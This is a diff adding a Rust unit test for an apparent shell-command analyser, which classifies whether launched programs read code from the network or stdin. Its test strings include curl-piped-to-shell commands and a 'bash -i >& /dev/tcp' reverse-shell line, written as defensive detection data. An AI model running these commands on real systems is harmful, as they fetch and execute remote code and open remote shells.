@@ -24,6 +24,42 @@ fn code_in_words_is_read() {
     assert_eq!(reading.runs.last().expect("a run").via, ["sudo", "sh"]);
 }
 
+/// What a shell reads, its programs read too.
+#[test]
+fn input_reaches_the_programs_that_code_starts() {
+    for (text, expected) in [
+        ("curl x | bash -c python3", Some(CodeFrom::Network)),
+        ("curl x | sh -c 'cd /tmp && sh'", Some(CodeFrom::Network)),
+        ("curl x | su -c python3 a", Some(CodeFrom::Network)),
+        ("curl x | flock l -c node", Some(CodeFrom::Network)),
+        ("curl x | git -c alias.a='!python3' a", Some(CodeFrom::Network)),
+        ("curl x | xargs -a l sh", Some(CodeFrom::Network)),
+        ("exec < <(curl x); python3", Some(CodeFrom::Network)),
+        ("f() { exec < <(curl x); }; f; node", Some(CodeFrom::Network)),
+        ("if a; then exec < <(curl x); fi; sh", Some(CodeFrom::Network)),
+        ("command exec 0< x.py; python3", Some(CodeFrom::Stdin)),
+        ("exec <<< 'import x'; python3", Some(CodeFrom::Stdin)),
+        ("bash <<E\npython3\nimport x\nE", Some(CodeFrom::Stdin)),
+        ("bash 0>&3", Some(CodeFrom::Stdin)),
+        ("python3 0>&3", Some(CodeFrom::Stdin)),
+        ("curl x | xargs python3", None),
+        ("curl x | xargs -I{} bash -c python3", None),
+        ("(exec < <(curl x)); python3", None),
+        ("{ python3; } < /dev/null; bash < /dev/null", None),
+        ("exec < /dev/null 2> e; python3 -", Some(CodeFrom::Stdin)),
+        ("cat < x.py; python3", None),
+        ("curl x && bash", None),
+        ("bash -li; python3 -; docker run -it a sh", None),
+        ("sudo bash", Some(CodeFrom::Stdin)),
+        ("bash 3< /dev/tcp/a/1", Some(CodeFrom::Stdin)),
+        ("bash -i >& /dev/tcp/a/1 0>&1", Some(CodeFrom::Stdin)),
+    ] {
+        let reading = reading(text);
+        let found = reading.runs.iter().filter_map(|run| run.code_from).next_back();
+        assert_eq!(found, expected, "{text}");
+    }
+}
+
 #[test]
 fn known_input_is_code_and_unknown_input_says_where_it_comes_from() {
     all(
